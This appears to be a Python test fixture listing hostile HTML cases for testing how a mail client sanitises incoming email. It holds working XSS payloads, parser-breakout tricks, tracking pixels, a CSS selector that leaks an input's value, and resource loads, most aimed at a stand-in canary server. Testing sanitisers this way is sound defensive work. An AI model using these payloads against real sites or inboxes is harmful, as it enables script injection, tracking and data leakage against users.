"""Hostile HTML: what a mail may try in a browser, one case each.

`{canary}` is the address of a server that must not hear of it. A script that runs asks it as well,
so that one count is enough.
"""

from __future__ import annotations

__all__ = ["CASES", "HARMLESS_ANYWHERE", "SCRIPT"]

# What each script says. It has no blanks and no double quotes: it may stand in any attribute.
SCRIPT = "(new(Image)).src='{canary}/script';document.title='taken';top.name='taken'"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload=\"" + SCRIPT + '">'

CASES = {
    # Scripts
    "script": f"<script>{SCRIPT}</script>",
    "script from elsewhere": "<script src='{canary}/x.js'></script>",
    "module": f"<script type=module>{SCRIPT}</script>",
    "module preload": "<link rel=modulepreload href='{canary}/x.js'>",
    "onerror": f'<img src=x onerror="{SCRIPT}">',
    "onload of the body": f'<body onload="{SCRIPT}">',
    "onfocus": f'<input autofocus onfocus="{SCRIPT}">',
    "ontoggle": f'<details open ontoggle="{SCRIPT}">x</details>',
    "onanimationstart": "<style>@keyframes x{{}}p{{animation:x 1ms}}</style>"
    f'<p onanimationstart="{SCRIPT}">x',
    "onbegin of SVG": f'<svg><animate onbegin="{SCRIPT}" attributeName=x dur=1s></svg>',
    "svg": SVG,
    "script in svg": f"<svg><script>{SCRIPT}</script></svg>",
    "foreignObject": f'<svg><foreignObject><img src=x onerror="{SCRIPT}"></foreignObject></svg>',
    "use of a data address": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns="
    "'http://www.w3.org/2000/svg'><image href='{canary}/use'/></svg>#x\"/></svg>",
    "image in svg": "<svg><image href='{canary}/image' width=9 height=9 /></svg>",
    "feImage": "<svg width=9 height=9><filter id=f><feImage href='{canary}/fe'/></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "filter from elsewhere": "<p style=\"filter:url('{canary}/x.svg#f')\">x",
    # Without the void the frame becomes a page of the script's value, which ends what it asks for.
    "javascript frame": f'<iframe src="javascript:{SCRIPT};void(0)"></iframe>',
    "srcdoc": f'<iframe srcdoc="<script>{SCRIPT}</script>"></iframe>',
    "data frame": f'<iframe src="data:text/html,<script>{SCRIPT}</script>"></iframe>',
    "frame from elsewhere": "<iframe src='{canary}/frame'></iframe>",
    "frameset": "<frameset><frame src='{canary}/frameset'></frameset>",
    "portal and fenced frame": "<fencedframe src='{canary}/f'></fencedframe>",
    "object": "<object data='{canary}/object'></object>",
    "object of data": f'<object data="data:text/html,<script>{SCRIPT}</script>"></object>',
    "embed": "<embed src='{canary}/embed'>",
    "applet": "<applet code='{canary}/applet'></applet>",
    # Addresses
    "meta refresh": "<meta http-equiv=refresh content='0;url={canary}/refresh'>",
    "meta refresh to data": "<meta http-equiv=refresh"
    f' content="0;url=data:text/html,<script>{SCRIPT}</script>">',
    "meta policy": '<meta http-equiv=Content-Security-Policy content="default-src * '
    f"'unsafe-inline'\"><script>{SCRIPT}</script>",
    "meta that reports": "<meta http-equiv=Content-Security-Policy-Report-Only"
    " content=\"default-src 'none';report-uri {canary}/report\"><img src=x>",
    "base": "<base href='{canary}/base/'><img src=picture.png><link rel=stylesheet href=x.css>",
    "form that sends itself": "<form id=f action='{canary}/form'></form><input form=f autofocus"
    " onfocus='f.submit()'>",
    # Style
    "stylesheet": "<link rel=stylesheet href='{canary}/x.css'>",
    "import": "<style>@import '{canary}/import.css';</style>",
    "import by url": "<style>@import url({canary}/import.css);</style>",
    "background image": "<p style='background:url({canary}/css)'>x",
    "image-set": "<p style=\"background:image-set('{canary}/set' 1x)\">x",
    "cursor and list": "<style>li{{list-style:url({canary}/li)}}p{{cursor:url({canary}/c),auto}}"
    "</style><li>x<p>x",
    "content": "<style>p::before{{content:url({canary}/content)}}</style><p>x",
    "border and mask": "<p style='border:9px solid;border-image:url({canary}/b) 3;"
    "mask:url({canary}/m)'>x",
    "font": "<style>@font-face{{font-family:x;src:url({canary}/font)}}p{{font-family:x}}</style>"
    "<p>x",
    "css of attributes": "<style>input[value^=s]{{background:url({canary}/s)}}</style>"
    "<input value=secret>",
    "escaped css": "<p style='background:\\75\\72\\6c({canary}/esc)'>x",
    "variable css": "<p style='--x:url({canary}/var);background:var(--x)'>x",
    # Pictures and their like
    "img": "<img src='{canary}/img'>",
    "img without a scheme": "<img src='//{host}/img'>",
    "srcset": "<img srcset='{canary}/srcset 1x'>",
    "picture": "<picture><source srcset='{canary}/source'><img></picture>",
    "input image": "<input type=image src='{canary}/input'>",
    "background attribute": "<table background='{canary}/table'><tr><td background='{canary}/td'>x",
    "background of the body": "<body background='{canary}/body'>x",
    "video": "<video src='{canary}/video' poster='{canary}/poster' autoplay muted></video>",
    "audio": "<audio src='{canary}/audio' autoplay preload=auto></audio>",
    "track": "<video><source src='{canary}/v'><track default src='{canary}/track'></video>",
    "lazy picture": "<img loading=lazy src='{canary}/lazy'>",
    # Hints
    "prefetch": "<link rel=prefetch href='{canary}/prefetch'>",
    "preload": "<link rel=preload as=image href='{canary}/preload'>",
    "prerender": "<link rel=prerender href='{canary}/prerender'>",
    "speculation rules": '<script type=speculationrules>{{"prefetch":[{{"urls":['
    '"{canary}/spec"],"eagerness":"immediate"}}]}}</script>',
    "icon": "<link rel=icon href='{canary}/icon.png'>",
    "manifest": "<link rel=manifest href='{canary}/manifest'>",
    "import map": '<script type=importmap>{{"imports":{{"x":"{canary}/x.js"}}}}</script>'
    "<script type=module>import 'x'</script>",
    # What parsers disagree about
    "breakout of a frame": f"</iframe><script>{SCRIPT}</script><iframe>",
    "breakout of a page": f"</body></html><script>{SCRIPT}</script>",
    "breakout of a style": f"<style></style ><script>{SCRIPT}</script></style>",
    "breakout of a title": f"<title></title><script>{SCRIPT}</script></title>",
    "breakout of an attribute": f'<p title="a"><script>{SCRIPT}</script>">x',
    "breakout of a comment": f"<!--><script>{SCRIPT}</script>-->",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={SCRIPT}>"></noscript>',
    "template": f"<template><img src=x></template><template shadowrootmode=open>"
    f"<script>{SCRIPT}</script></template>",
    "shadow root": f"<p><template shadowrootmode=open><script>{SCRIPT}</script>"
    "<img src='{canary}/shadow'></template></p>",
    "MathML": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x'
    f' onerror={SCRIPT}&gt;">',
    "MathML link": f'<math href="javascript:{SCRIPT}"><mi>x</mi></math>',
    "svg in style": f'<svg></p><style><a id="</style><img src=x onerror={SCRIPT}>">',
    "xmp and plaintext": f"<xmp></xmp><script>{SCRIPT}</script><plaintext>",
    "nul in a tag": f"<scr\0ipt>{SCRIPT}</scr\0ipt><img src='{{canary}}/nul'\0>",
    "xml": f"<?xml version='1.0'?><!DOCTYPE html><html><script>{SCRIPT}</script></html>",
    "conditional comment": f"<!--[if true]><script>{SCRIPT}</script><![endif]-->"
    "<![if true]><img src='{canary}/if'><![endif]>",
    "utf-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-<meta charset=utf-7>"
    "<img src='{canary}/utf7'>",
    # Of mail
    "cid that leaves": "<img src='cid:../../../../../x'><img src='cid:{canary}/cid'>"
    "<img src='{canary}/after'>",
    "cid with markup": f"<img src='cid:\"><script>{SCRIPT}</script>'><img src='{{canary}}/x'>",
    "doctype": f'<!-- x --><!doctype html "><script>{SCRIPT}</script>',
    "tracker": "<img src='{canary}/open.gif' width=1 height=1 style='display:none'>",
    "huge table": "<table>" + "<tr><td>x" * 5_000 + "<img src='{canary}/huge'>",
    "deep nesting": "<div>" * 4_000 + "<img src='{canary}/deep'>",
}
"""Names and HTML; braces of CSS are doubled, for `str.format`."""

# Chromium gives no chance to these, even in a page that has no defence at all.
HARMLESS_ANYWHERE = {
    "MathML",
    "MathML link",
    "applet",
    "filter from elsewhere",
    "manifest",
    "meta refresh to data",
    "meta that reports",
    "portal and fenced frame",
    "prerender",
    "template",
    "use of a data address",
}
